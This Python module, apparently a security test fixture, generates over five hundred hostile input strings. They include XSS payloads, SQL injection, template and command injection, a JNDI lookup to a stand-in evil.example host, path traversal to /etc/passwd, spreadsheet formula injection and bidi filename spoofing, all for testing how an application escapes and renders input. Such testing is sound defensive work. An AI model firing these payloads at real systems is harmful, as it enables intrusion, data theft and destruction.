"""Five hundred naughty strings, written by rule; each tries to run, to reach out, or to mislead."""

from __future__ import annotations

from base64 import b64encode
from itertools import product
from urllib.parse import quote

RUN = "owned=1"  # what a script that ran would leave behind
SCRIPT = f"<script>{RUN}</script>"
FAR = "//evil.example/x"

_EVENTS = (
    ("img src=x", "error"),
    ("svg", "load"),
    ("body", "load"),
    ("details open", "toggle"),
    ("input autofocus", "focus"),
    ("video src=x", "error"),
    ("audio src=x", "error"),
    ("object data=x", "error"),
    ("iframe", "load"),
    ("select autofocus", "focus"),
    ("p style=animation:x", "animationstart"),
    ("x contenteditable tabindex=1", "focusin"),
)
_QUOTINGS = (
    "<{tag} on{event}={run}>",
    '<{tag} on{event}="{run}">',
    "<{tag} on{event}='{run}'/>",
    "<{tag}/on{event}=`{run}`>",
    "<{tag}\ton{event}\t={run} x=",
    "<{upper} ON{event}={run}//",
    "<<{tag} on{event}={run}>>",
    '<{tag} x="<" on{event}={run}>',
)
_BREAKS = (
    '">', "'>", "</title>", "</textarea>", "</style>", "</script>", "-->", "]]>", "</noscript>",
    "</svg>", "</select>", "</table>", "</pre></code>", "<!--><!-->", "\\'-", "`}",
)  # fmt: skip
_LOADS = (SCRIPT, f"<img src=x onerror={RUN}>", f"<svg/onload={RUN}>")
_ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java&#9;script:{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A&#x61vascript:{RUN}",
    f"javascript%3A{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,{SCRIPT}",
    f"data:text/html;base64,{b64encode(SCRIPT.encode()).decode()}",
    "file:///etc/passwd",
    FAR,
    f"https:{FAR}",
)
_LINKS = (
    "[x]({0})", "![x]({0})", "<{0}>", "<a href={0}>x</a>", "<iframe src={0}>", "<form action={0}>",
    "<img src={0}>", "<link rel=stylesheet href={0}>", '[x](<{0}> "t")', "<base href={0}>",
)  # fmt: skip
_ENCODINGS = (
    quote(SCRIPT, safe=""),
    quote(quote(SCRIPT, safe=""), safe=""),
    "".join(f"&#{ord(letter)};" for letter in SCRIPT),
    "".join(f"&#x{ord(letter):x}" for letter in SCRIPT),
    SCRIPT.replace("<", "&lt;").replace(">", "&gt;"),
    SCRIPT.replace("<", "&amp;lt;"),
    SCRIPT.replace("<", "\\u003c"),
    SCRIPT.replace("<", "\\x3c"),
    SCRIPT.replace("<", "\\74"),
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    SCRIPT.translate({ord("<"): "\uff1c", ord(">"): "\uff1e"}),
    SCRIPT.translate({ord("<"): "\u02c2", ord(">"): "\u02c3"}),
    SCRIPT.replace("script", "scr\u0131pt"),
    SCRIPT.replace("script", "\u017fcript"),
    SCRIPT.replace("s", "\x0bs"),
    SCRIPT.replace("<", "<\u200b"),
)
_TEMPLATES = (
    "{{ 7*7 }}", "{% now 'Y' %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "<?php 7*7 ?>",
    "{{ request.user }}", "{{ settings.SECRET_KEY }}", "{% include 'assay/base.html' %}",
    "{{constructor.constructor('x')()}}", "{{''.__class__}}", "{%debug%}", "@(7*7)", "[[7*7]]",
    "%{7*7}", "{{=7*7}}", "*{7*7}", "${jndi:ldap://evil.example/x}", "$(id)", "`id`", "; ls",
    "| id", "&& id", "\\endinput", "\\input{/etc/passwd}",
)  # fmt: skip
_QUERIES = (
    "'; DROP TABLE store_person; --", "' OR '1'='1", '" OR ""="', "1; SELECT 1", "') OR ('a'='a",
    "' UNION SELECT NULL--", "admin'--", "1' AND pg_sleep(9)--", "\\'; --", "%' OR 1=1 --", "_%",
    "$$; DROP TABLE x; $$", "E'\\\\'", "0x27", "'||'", "''''", "/*", "*/ --", "LIKE '%'", "NULL",
)  # fmt: skip
_FORMATS = (
    "%s", "%d", "%n%n%n", "%(name)s", "%x%x", "{0}", "{}", "{x}", "{0.__class__}", "{0[0]}", "$1",
    "\\1", "\\g<0>", "%%", "%c", "{!r}", "{:>9}", "%1$s", "${x}", "~s",
)  # fmt: skip
_FORMULAS = tuple(
    lead + rest
    for lead in ("=", "+", "-", "@", "\uff1d", "\uff20")
    for rest in ("1+1", "SUM(A1)", "cmd|' /C calc'!A0", f'HYPERLINK("https:{FAR}")')
)
_BIDI = tuple(
    f"a{mark}gpj.exe{end}"
    for mark in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c"
    for end in ("", "\u202c\u2069")
)
_UNSEEN = tuple(
    f"pay{letter}pal"
    for letter in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\u3164\u2800\u180e\u00a0\u2028"
    "\u2029\u0085\ufffd\ufffe\U000e0041"
)
_MARKED = tuple("a" + chr(0x300 + place) * many for place in range(8) for many in (1, 30))
_PICTURES = (
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f1e9\U0001f1ea",
    "\U0001f1e9", "\U0001f44b\U0001f3fd", "\u2764\ufe0f", "1\ufe0f\u20e3",
    "\U0001f3f4\U000e0067\U000e007f", "\ufe0f",
    "\u200d\u200d", "\U0001f600" * 40, "\U0010ffff", "\ue000", "\u0e4e" * 9, "\ufdfd" * 5,
    "\u1f6e\u0345",
    "\u00df\u1e9e", "\u0130\u0131", "\ufb03", "\u2126\u03a9", "\uac01\u1100\u1161\u11a8",
)  # fmt: skip
_CONTROLS = (*tuple(f"a{chr(code)}b" for code in range(1, 32) if code not in (9, 10, 13)), "\x7f")
_WORDS = (
    "W" * 300, "\u4e00" * 120, "_" * 200, "i" * 250, "\u0627" * 150, "-" * 120, "/" * 150,
    "a@" * 60, "https://" + "x" * 200, "&" * 99, "<" * 99, "[" * 60, "*" * 80, "#" * 70, ">" * 60,
)  # fmt: skip
_VALUES = (
    "null", "None", "undefined", "NaN", "Infinity", "-0", "1e309", "0x0", "true", "[]", "{}",
    "\\", "\\\\", "'", '"', "../../etc/passwd", "..\\..\\x", "C:\\con", "CON", "/dev/null", "~root",
    "file.txt;.exe", "x\\0y", "__proto__", "constructor", "toString", "hasOwnProperty", "then",
    "\u0661\u0662\u0663", "1,000.00", "01/02/03", "9" * 40,
)  # fmt: skip
_MARKDOWN = (
    "# x\n###### y", "| a |\n|---|\n| <b> |", f"```\n{SCRIPT}\n```", f"    {SCRIPT}", "> > > > x",
    "- - - - x", "***x***", "[x]: //evil.example 'y'", "[x][]", f"<!-- {SCRIPT} -->", "\\<b>\\</b>",
    f"<div>\n\n{SCRIPT}\n\n</div>", "a<br/>b", f"[{SCRIPT}](x)", f"`{SCRIPT}`", "[a](b \"c'd\")",
    "<https://a.example/\u202e>", "![a][b]", f"&copy; &nbsp; {SCRIPT}", "~~x~~ ==y== ^z^",
)  # fmt: skip
_NAMES = """hx-get hx-post hx-boost=true hx-push-url hx-ext hx-on:load hx-on::load data-hx-get
data-hx-on:load hx-headers hx-vals=js:owned hx-trigger=load ping formaction srcset poster background
xlink:href style=background:url() manifest slot is"""
_ATTRIBUTES = tuple(f"<x {name}={FAR}>" for name in _NAMES.split())


def _written():
    for (tag, event), form in product(_EVENTS, _QUOTINGS):
        yield form.format(tag=tag, upper=tag.upper(), event=event, run=RUN)
    yield from (edge + load for edge, load in product(_BREAKS, _LOADS))
    yield from (form.format(address) for form, address in product(_LINKS, _ADDRESSES))
    for rule in (
        _ENCODINGS, _TEMPLATES, _QUERIES, _FORMATS, _FORMULAS, _BIDI, _UNSEEN, _MARKED, _PICTURES,
        _CONTROLS, _WORDS, _VALUES, _MARKDOWN, _ATTRIBUTES,
    ):  # fmt: skip
        yield from rule


NAUGHTY = tuple(dict.fromkeys(_written()))
assert len(NAUGHTY) >= 500


def packed(most):
    """Yield texts of at most `most` characters that hold all strings, a paragraph each."""
    held: list[str] = []
    for one in NAUGHTY:
        if held and sum(map(len, held)) + 2 * len(held) + len(one) > most:
            yield "\n\n".join(held)
            held = []
        held.append(one)
    yield "\n\n".join(held)
